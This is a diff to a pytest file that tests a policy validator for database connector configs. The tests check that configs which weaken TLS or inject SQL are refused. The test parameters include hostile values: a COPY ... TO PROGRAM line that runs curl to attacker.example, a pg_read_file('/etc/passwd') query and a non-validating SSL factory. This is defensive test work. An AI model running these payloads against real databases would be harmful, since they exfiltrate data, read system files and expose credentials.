@@ -1,5 +1,7 @@
-"""The policy every connector config passes before it reaches Connect, with its messages in full, and the
-declarations kept in SSM (found by make mutate: prefixes of messages and one store round trip let details drift)."""
+"""The policy every connector config passes before it reaches Connect, with its messages in full (found by make
+mutate: prefixes of messages let details drift)."""
+
+import re
 
 import pytest
 
@@ -114,3 +116,39 @@ class Ssm:
                 yield {"Parameters": [{"Name": "/p/declared/a", "Value": '{"state":"running"}'}]}
                 yield {"Parameters": [{"Name": "/p/declared/b", "Value": "{}"}]}
         return Paginator()
+
+
+OWN = {"database.user": "${env:DBZ_ACCOUNTS_CDC_USER}", "database.password": "${env:DBZ_ACCOUNTS_CDC_PASSWORD}",
+       "database.sslmode": "verify-full", "database.sslrootcert": "/opt/connect/certs/rds-global-bundle.pem"}
+HEARTBEAT = "INSERT INTO debezium_heartbeat (id, seen_at) VALUES (1, now()) ON CONFLICT (id) DO UPDATE SET seen_at = now()"
+
+
+def test_the_platforms_own_config_passes_the_policy():
+    assert declared.config_problems("accounts-cdc", {**OWN, "heartbeat.action.query": HEARTBEAT}) == []
+    assert declared.config_problems("accounts-cdc", {**OWN, "heartbeat.action.query": HEARTBEAT.replace(
+        "debezium_heartbeat", "public.debezium_heartbeat")}) == []
+
+
+@pytest.mark.parametrize("key, value, problem", [
+    ("database.sslfactory", "org.postgresql.ssl.NonValidatingFactory",
+     "database.sslfactory overrides the database connection's TLS or driver; no connector config may"),
+    ("driver.sslmode", "disable", "driver.sslmode overrides the database connection's TLS or driver; no connector "
+                                  "config may"),
+    ("heartbeat.action.query", "COPY accounts TO PROGRAM 'curl attacker.example'",
+     "heartbeat.action.query is not the platform's heartbeat upsert; no other SQL runs on a database"),
+    ("snapshot.select.statement.overrides.public.accounts", "SELECT pg_read_file('/etc/passwd')",
+     "snapshot.select.statement.overrides.public.accounts would run SQL (or load code) on the database; no "
+     "connector config may"),
+])
+def test_a_config_that_weakens_tls_or_runs_sql_is_refused_wherever_it_comes_from(key, value, problem):
+    """Security review: an invoker could set heartbeat.action.query (run every 10 s on a production database) or a
+    non-validating SSL factory (hand the credentials to another host) although the template said verify-full."""
+    assert declared.config_problems("accounts-cdc", {**OWN, key: value}) == [problem]
+    with pytest.raises(declared.PolicyError, match=re.escape(problem)):
+        declared.resolved("accounts-cdc", {**OWN, key: value}, None)
+
+
+def test_verifying_tls_without_a_ca_bundle_is_refused():
+    config = {k: v for k, v in OWN.items() if k != "database.sslrootcert"}
+    assert declared.config_problems("accounts-cdc", config) == [
+        "database.sslmode verifies the server but database.sslrootcert names no CA bundle"]
